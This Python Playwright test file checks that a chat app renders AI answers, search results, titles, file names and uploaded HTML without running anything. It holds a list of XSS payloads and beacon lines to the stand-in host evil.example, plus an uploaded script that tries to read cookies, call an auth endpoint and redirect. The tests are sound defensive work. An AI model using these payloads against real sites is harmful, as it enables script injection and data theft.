"""Text of a model, a web page, a file or a name is only shown, never executed."""

import json

from playwright.async_api import expect

from browser.backend import QUESTION, PageBackend
from browser.conftest import NewProfile
from browser.page import Chat
from server.forms import upload_files
from upstream import call, reply, say, stop, think
from web.providers import Hit
from web.replies import HTML, PageReply

BEACON = "https://evil.example/beacon"
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f"<img src={BEACON}/a>",
    f'<img srcset="{BEACON}/b 2x">',
    "<svg onload=alert(1)><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    f"<svg><image href='{BEACON}/c'/></svg>",
    f"<iframe src='{BEACON}/d' srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<meta http-equiv=refresh content='0;url={BEACON}/e'>",
    f"<link rel=stylesheet href={BEACON}/f>",
    f"<link rel=prefetch href={BEACON}/g>",
    f"<style>@import url({BEACON}/h); body {{ background: url({BEACON}/i) }}</style>",
    f"<form action={BEACON}/j><button>Send</button></form>",
    f"<base href={BEACON}/>",
    f"<video poster={BEACON}/k src={BEACON}/l autoplay></video>",
    f"<table background={BEACON}/m><td>x</td></table>",
    f"<object data={BEACON}/n></object><embed src={BEACON}/o>",
    f"![pixel]({BEACON}/p)",
    f"![pixel][later]\n\n[later]: {BEACON}/q",
    "[click](javascript:alert(1))",
    "[click](JaVa\tScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "[ref]: javascript:alert(1)\n\n[ref]",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
    "$\\href{javascript:alert(1)}{x}$ $$\\url{javascript:alert(1)}$$ $\\includegraphics{" + BEACON + "/r}$",
    "$\\htmlData{x=1}{y} \\htmlStyle{background:url(" + BEACON + "/s)}{z}$",
    "\u202e\u2066 turned around \u2069 https://exam\u0440le.com",
    "[1](javascript:alert(1)) [^1]\n\n[^1]: <img src=x onerror=alert(1)>",
)
MARKDOWN = "\n\n".join(PAYLOADS)
SEEN = "the end of it all"
TITLE = "<img src=x onerror=alert(1)>\"'><script>alert(1)</script>"
NAME = "<img src=x onerror=alert(1)>.md"

SUSPICIOUS = """() => [...document.querySelectorAll("*")].flatMap((element) => {
  const bad = [...element.attributes].filter(({ name, value }) =>
    /^on/.test(name) ||
    (/^(href|src|srcset|action|formaction|data|poster|background|xlink:href)$/.test(name) &&
      (/^\\s*(javascript|vbscript|data:text)/i.test(value) ||
        (element.tagName !== "A" && /evil\\.example/.test(value)))));
  const odd = element.matches("iframe, object, embed, base, meta[http-equiv], form[action], style") ||
    element.matches("script:not([src^='/static/'])");
  return bad.length || odd ? [element.outerHTML.slice(0, 200)] : [];
})"""


async def test_an_answer_full_of_traps_does_nothing_but_stand_there(
    backend: PageBackend, new_profile: NewProfile
) -> None:
    backend.script(reply(think(MARKDOWN), say(MARKDOWN), say(f"\n\n{SEEN}"), stop()))
    chat = await Chat.open(await new_profile())
    await chat.ask_and_wait(MARKDOWN)
    await expect(chat.log).to_contain_text(SEEN)
    await _open_everything(chat)
    assert await chat.page.evaluate(SUSPICIOUS) == []
    await chat.page.reload()
    await expect(chat.log).to_contain_text(SEEN)
    await _open_everything(chat)
    assert await chat.page.evaluate(SUSPICIOUS) == []


async def test_an_answer_leads_neither_to_this_server_nor_to_a_host_behind_a_name(
    backend: PageBackend, new_profile: NewProfile
) -> None:
    own = ("/login?token=a", f"{backend.origin}/login?token=b", "#composer", "http://user:pw@example.org/")
    links = "\n\n".join(f"[the link {number}]({address})" for number, address in enumerate(own))
    backend.script(reply(say(f"{links}\n\n<http://user:pw@example.org/> [outside](https://example.org/)."), stop()))
    chat = await Chat.open(await new_profile())
    await chat.ask_and_wait("Where to?")
    for number in range(len(own)):
        await expect(chat.log.get_by_text(f"the link {number}")).to_be_visible()
    found = await chat.log.locator(".chat-answer a").evaluate_all("(all) => all.map((one) => one.href)")
    assert found == ["https://example.org/"]


async def test_an_answer_full_of_traps_that_streams_letter_by_letter_does_nothing_either(
    backend: PageBackend, new_profile: NewProfile
) -> None:
    pieces = [MARKDOWN[at : at + 3] for at in range(0, len(MARKDOWN), 3)]
    backend.script(reply(say(*pieces), say(f"\n\n{SEEN}"), stop()))
    chat = await Chat.open(await new_profile())
    await chat.ask_and_wait("Go on")
    await expect(chat.log).to_contain_text(SEEN)
    assert await chat.page.evaluate(SUSPICIOUS) == []


async def test_sources_tool_results_titles_and_file_names_are_only_shown(
    backend: PageBackend, new_profile: NewProfile
) -> None:
    head = f"<!doctype html><title>{TITLE.replace('<', '&lt;')}</title>"
    page = f"{head}<body><article><h1>Traps</h1>{_paragraphs()}</article>"
    url = backend.web.put("/trap", PageReply(headers={"Content-Type": HTML}, body=page.encode()))
    backend.search._hits = [Hit(TITLE, url, MARKDOWN)]
    backend.script(
        reply(call("web_search", {"query": TITLE, "prompt": MARKDOWN}, id="c1"), stop("toolUse")),
        reply(say("The trap is set in 1777 by nobody [1]."), stop()),
        reply(call("write_file", {"file_path": f"/{NAME}", "content": MARKDOWN}, id="c2"), stop("toolUse")),
        reply(call("read_file", {"file_path": f"/{NAME}"}, id="c3"), stop("toolUse")),
        reply(say("The trap is set in 1777 by nobody [1]. ", SEEN), stop()),
    )
    chat = await Chat.open(await new_profile())
    await chat.ask_and_wait(QUESTION)
    await expect(chat.log).to_contain_text(SEEN)
    session_id = chat.page.url.rpartition("/")[2]
    await backend.user.request("PATCH", f"/v2/sessions/{session_id}", {"title": TITLE})
    await upload_files(backend.user, session_id, (f"{TITLE.replace('/', '')}.md", MARKDOWN.encode()))
    await chat.page.reload()
    await expect(chat.log).to_contain_text(SEEN)
    await _open_everything(chat)
    await chat.open_sources()
    await _open_everything(chat)
    await chat.log.get_by_role("button", name="Footnote 1").first.click()
    await expect(chat.drawer.get_by_text("Traps").first).to_be_visible()
    assert await chat.page.evaluate(SUSPICIOUS) == []
    await chat.open_files()
    await chat.open_file(NAME)
    await expect(chat.viewer).to_contain_text("turned around")
    assert await chat.page.evaluate(SUSPICIOUS) == []


async def test_a_web_page_among_the_files_runs_where_it_can_reach_nothing(
    backend: PageBackend, new_profile: NewProfile
) -> None:
    escape = """<script>
      const tell = (what) => document.body.append(` ${what}`);
      try { parent.document.title; tell("sees the page") } catch { tell("sees nothing") }
      try { document.cookie; tell("has a cookie") } catch { tell("has none") }
      fetch("/v2/auth/me").then(() => tell("asked"), () => tell("could not ask"));
      new Image().src = "https://evil.example/x";
      navigator.sendBeacon?.("https://evil.example/y");
      open("https://evil.example/z");
      try { top.location = "https://evil.example/t" } catch {}
    </script>"""
    session = await backend.create_session(title="Traps")
    await upload_files(
        backend.user, session.session_id, ("trap.html", f"<!doctype html><body>I am here.{escape}".encode())
    )
    profile = await new_profile()
    # The frame's own policy logs what the file tries.
    profile.expected_problems += ["CSP: ", "Content Security Policy", "sandboxed", "Unsafe attempt", "Blocked opening"]
    chat = await Chat.open(profile, f"/s/{session.session_id}")
    await chat.open_files()
    await chat.open_file("trap.html")
    frame = chat.viewer.frame_locator("iframe").locator("body")
    await expect(frame).to_have_text("I am here.")
    await chat.viewer.get_by_role("button", name="Run scripts").click()
    await expect(frame).to_contain_text("sees nothing")
    await expect(frame).to_contain_text("has none")
    await expect(frame).to_contain_text("could not ask")
    assert chat.page.url.startswith(backend.origin)
    assert len(profile.context.pages) == 1


def _paragraphs() -> str:
    escaped = json.dumps(MARKDOWN)[1:-1].replace("<", "&lt;")
    return "".join(f"<p>The trap is set in 1777 by nobody. {escaped}</p>" for _ in range(3))


async def _open_everything(chat: Chat) -> None:
    """Opens every collapsible part."""
    await chat.page.evaluate("() => { for (const one of document.querySelectorAll('details')) one.open = true }")
    closed = chat.log.locator("[aria-expanded=false]:not([aria-haspopup])")
    for _ in range(await closed.count()):
        await closed.first.click()
    await chat.page.wait_for_timeout(300)
